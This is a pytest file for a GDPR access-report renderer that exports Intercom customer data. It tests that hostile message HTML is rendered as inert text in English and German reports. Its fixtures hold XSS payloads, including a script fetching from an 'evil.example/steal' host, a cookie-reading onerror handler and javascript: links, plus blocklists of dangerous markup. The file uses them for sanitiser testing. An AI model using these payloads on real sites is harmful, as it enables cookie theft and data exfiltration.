"""The access report: hostile HTML stays text, nothing runs or loads, every record is shown."""

from __future__ import annotations

import asyncio
import re
import string
from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dsr_resolvers import ExportRecord, ResolverExport, SubjectRef
from dsr_resolvers.intercom import IntercomResolver
from dsr_resolvers.report import SECTIONS, ProcessingRecord, render_access_report, section_of
from dsr_resolvers.report._catalogue import MESSAGES
from dsr_resolvers.report._page import visible
from dsr_resolvers.report._sanitize import message_html, message_text
from dsr_resolvers.sandbox import DEFAULT_TOKEN, seed_demo
from dsr_resolvers.testing import FakeIntercom
from dsr_resolvers.testing.strategies import World, worlds
from tests.test_report_processing import EXAMPLE

ISO_MOMENT = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}(:\d{2}(\.\d+)?)?(Z|[+-]\d{2}:?\d{2})")

HOSTILE = (
    '<p>Hello <script>fetch("https://evil.example/steal")</script>'
    '<img src=x onerror="alert(document.cookie)">'
    '<a href="javascript:alert(1)">click me</a> '
    '<img src="https://tracker.example/pixel.gif" alt="pixel">'
    '<a href="https://acme.example/help" onclick="alert(2)">the help page</a>'
    "<style>body{background:url(https://evil.example/bg.png)}</style>"
    '<iframe src="https://evil.example/frame"></iframe><svg onload="alert(3)"><script>x</script>'
    '</svg><div style="background-image:url(https://evil.example/x)">styled</div>'
    "<b>bold<i>unclosed</p>"
)

ALLOWED_TAGS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "header",
        "footer",
        "section",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "p",
        "dl",
        "dt",
        "dd",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "span",
        "div",
        "ul",
        "ol",
        "li",
        "b",
        "strong",
        "i",
        "em",
        "u",
        "s",
        "blockquote",
        "pre",
        "code",
        "br",
        "wbr",
    ]
)
ALLOWED_ATTRIBUTES = {
    "html": {"lang"},
    "meta": {"charset", "http-equiv", "content", "name"},
}


class Markup(HTMLParser):
    """Every tag and attribute of a document, and its visible text."""

    def __init__(self, document: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self._in_style = False
        self.feed(document)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_style = tag in ("style", "title")

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if not self._in_style:
            self.text.append(data)


def assert_inert(document: str) -> Markup:
    """No script, no event handler, no attribute that could fetch, only known tags."""
    markup = Markup(document)
    for tag, attrs in markup.tags:
        assert tag in ALLOWED_TAGS, tag
        allowed = ALLOWED_ATTRIBUTES.get(tag, {"class", "id"})
        assert set(attrs) <= allowed, (tag, attrs)
    lowered = document.lower()
    for needle in (
        "<script",
        "javascript:",
        "onerror",
        "onclick",
        "onload",
        "url(",
        "@import",
        "<img",
        "<iframe",
        "<svg",
        "src=",
    ):
        assert needle not in lowered, needle
    assert "default-src 'none'" in document
    return markup


def hostile_exports() -> tuple[dict[str, ResolverExport], IntercomResolver]:
    fake = FakeIntercom(DEFAULT_TOKEN)
    demo = seed_demo(fake)
    conversation = fake.add_conversation(demo.user_id, source_body=HOSTILE)
    fake.add_part(conversation, author="contact", body=HOSTILE.replace("Hello", "Again"))
    fake.add_note(demo.user_id, body=HOSTILE.replace("Hello", "Noted"))
    resolver = IntercomResolver(DEFAULT_TOKEN, transport=fake, export_messages=True)

    async def export_all() -> dict[str, ResolverExport]:
        ids = await resolver.find_contact_ids(email=demo.shared_email)
        return {i: await resolver.export_subject(SubjectRef(kind="intercom", value=i)) for i in ids}

    return asyncio.run(export_all()), resolver


def test_hostile_message_html_appears_nowhere_as_markup_only_as_text() -> None:
    exports, resolver = hostile_exports()
    document = render_access_report(exports, resolver.covered_surface, None)
    markup = assert_inert(document)
    for host in ("evil.example", "tracker.example"):
        assert host not in document
    text = "".join(markup.text)
    for said in ("Hello", "Again", "Noted"):
        assert (
            f"{said} [image]click me [image: pixel]the help page (https://acme.example/help)"
            in (text)
        )
    assert "styled" in text
    assert "unclosed" in text
    assert "document.cookie" not in document


def test_every_tag_the_report_opens_is_closed() -> None:
    exports, resolver = hostile_exports()
    document = render_access_report(exports, resolver.covered_surface, None)
    body = document.split("<body>", 1)[1]

    class Balance(HTMLParser):
        stack: list[str] = []  # noqa: RUF012 - one parser, one document

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag not in ("br", "wbr"):
                self.stack.append(tag)

        def handle_endtag(self, tag: str) -> None:
            if tag not in ("body", "html"):
                assert self.stack.pop() == tag

    checker = Balance()
    checker.feed(body)
    assert checker.stack == []


_CODES = (
    "consent_",
    "state_",
    "ticket_state_",
    "ticket_category_",
    "role_",
    "direction_",
    "call_state_",
)


def shown(record: ExportRecord) -> set[str]:
    """What the report may show for ``record``, as text: one of these."""
    return {visible(said) for said in _shown(record)}


def _shown(record: ExportRecord) -> set[str]:
    key = record.field.rsplit(".", 1)[-1]
    if key == "body":
        return {message_text(record.value)}
    if ISO_MOMENT.fullmatch(record.value):
        moment = datetime.fromisoformat(record.value.replace("Z", "+00:00"))
        return {moment.astimezone(UTC).strftime("%Y-%m-%d %H:%M UTC")}
    if record.value in ("true", "false"):
        return {"yes" if record.value == "true" else "no"}
    code = record.value.lower().replace("-", "_").replace(" ", "_")
    in_words = {MESSAGES[p + code][0] for p in _CODES if p + code in MESSAGES}
    return {record.value, f"{record.value} out of 5", *in_words}


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.one_of(
        worlds(max_contacts=4, max_conversations=5, max_parts=3),
        worlds(max_contacts=3, max_conversations=4, max_parts=2, hostile_ids=True),
    )
)
def test_every_record_of_the_export_appears_in_the_report(world: World) -> None:
    resolver = IntercomResolver(world.token, transport=world.fake, export_messages=True)

    async def export_all() -> dict[str, ResolverExport]:
        return {cid: await resolver.export_subject(world.ref(cid)) for cid in world.contacts}

    exports = asyncio.run(export_all())
    document = render_access_report(exports, resolver.covered_surface, None)
    text = "".join(assert_inert(document).text)
    for export in exports.values():
        for record in export.records:
            assert any(said in text for said in shown(record)), record.field


def test_both_languages_render_with_every_part() -> None:
    exports, resolver = hostile_exports()
    record = ProcessingRecord.from_toml(EXAMPLE)
    english = render_access_report(exports, resolver.covered_surface, record, language="en")
    german = render_access_report(exports, resolver.covered_surface, record, language="de")
    assert '<html lang="en">' in english
    assert '<html lang="de">' in german
    for document, words in (
        (
            english,
            (
                "Summary",
                "How your data is used",
                "Your data",
                "does not cover",
                "legitimate interests (Art. 6(1)(f) GDPR)",
                "Email address",
                "Last seen",
            ),
        ),
        (
            german,
            (
                "Zusammenfassung",
                "Wie Ihre Daten verwendet werden",
                "Ihre Daten",
                "nicht umfasst",
                "berechtigte Interessen (Art. 6 Abs. 1 lit. f DSGVO)",
                "E-Mail-Adresse",
                "Zuletzt gesehen",
            ),
        ),
    ):
        assert_inert(document)
        for word in words:
            assert word in document, word
    assert record.controller.contact in english
    assert record.dpo.contact in german


def test_without_a_processing_record_the_report_says_so_visibly() -> None:
    exports, resolver = hostile_exports()
    document = render_access_report(exports, resolver.covered_surface, None)
    text = "".join(Markup(document).text)
    assert "produced without the controller's record of processing" in text
    assert "ask the controller" not in text.lower()


def test_a_category_the_record_does_not_name_is_marked_not_stated() -> None:
    exports, resolver = hostile_exports()
    record = ProcessingRecord.from_toml(EXAMPLE)
    partial = record.model_copy(
        update={"categories": {k: v for k, v in record.categories.items() if k != "technical"}}
    )
    document = render_access_report(exports, resolver.covered_surface, partial)
    assert "Not stated by the controller for this category." in document


def test_an_empty_export_says_nothing_is_held_and_the_time_carries_its_zone() -> None:
    fake = FakeIntercom("t")
    surface = IntercomResolver("t", transport=fake).covered_surface
    moment = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)
    document = render_access_report(
        {"abc": ResolverExport(resolver="intercom")}, surface, None, produced_at=moment
    )
    assert "Intercom holds no personal data" in document
    assert "2026-03-01 09:30 UTC" in document


def test_the_catalogue_has_every_message_in_every_language_with_the_same_placeholders() -> None:
    def fields(template: str) -> set[str]:
        return {name for _, name, _, _ in string.Formatter().parse(template) if name}

    for key, (english, german) in MESSAGES.items():
        assert english, key
        assert german, key
        assert fields(english) == fields(german), key


_PIECES = (
    "<p>",
    "</p>",
    "<div>",
    "</div>",
    "<b>",
    "</b>",
    "<i>",
    "<ul><li>",
    "</li></ul>",
    "<br/>",
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    "<svg>",
    "</svg>",
    "<a href='https://x.example'>",
    "<a href=javascript:alert(1)>",
    "</a>",
    "<img src=x onerror=alert(1)>",
    "<!-- c -->",
    "&lt;",
    "&amp;",
    "<p onclick=go()>",
    "<h1>",
    "</h1>",
    "<textarea>",
    "</textarea>",
    "<",
    ">",
    '"',
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(_PIECES), st.text(max_size=8)), max_size=30))
def test_the_sanitiser_emits_only_bare_allowed_tags_whatever_it_is_given(pieces: list[str]) -> None:
    cleaned = message_html("".join(pieces))
    markup = Markup(cleaned)
    for tag, attrs in markup.tags:
        assert tag in ALLOWED_TAGS, tag
        assert not attrs, (tag, attrs)
    for needle in ("<script", "<style", "<svg", "<img", "javascript:", "onerror", "onclick"):
        assert needle not in cleaned.lower()


@pytest.mark.parametrize(
    ("field", "section"),
    [
        ("contact.segments.61a2.name", "segments"),
        ("contact.subscriptions.17.consent_type", "subscriptions"),
        ("event_summary.0.name", "event_summaries"),
        ("contact.tags.7.name", "tags"),
        ("contact.email", "profile"),
    ],
)
def test_every_export_section_has_its_own_place_in_the_report(field: str, section: str) -> None:
    assert section_of(field) == section
    assert section in SECTIONS


@pytest.mark.parametrize("language", ["en", "de"])
def test_attributes_held_but_not_exported_are_named_never_shown(language: str) -> None:
    fake = FakeIntercom(DEFAULT_TOKEN)
    demo = seed_demo(fake)
    resolver = IntercomResolver(DEFAULT_TOKEN, transport=fake)
    export = asyncio.run(resolver.export_subject(SubjectRef(kind="intercom", value=demo.user_id)))
    assert "contact.custom_attributes.favourite_colour" in export.held_not_exported

    document = render_access_report(
        {demo.user_id: export}, resolver.covered_surface, None, language=language
    )

    for name in export.held_not_exported:  # in words, the field path never
        assert name not in document
        assert name.rsplit(".", 1)[1].replace("_", " ") in document
    assert "teal" not in document  # the value of favourite_colour, never exported
    assert MESSAGES["held_not_exported"][0 if language == "en" else 1][:30] in document
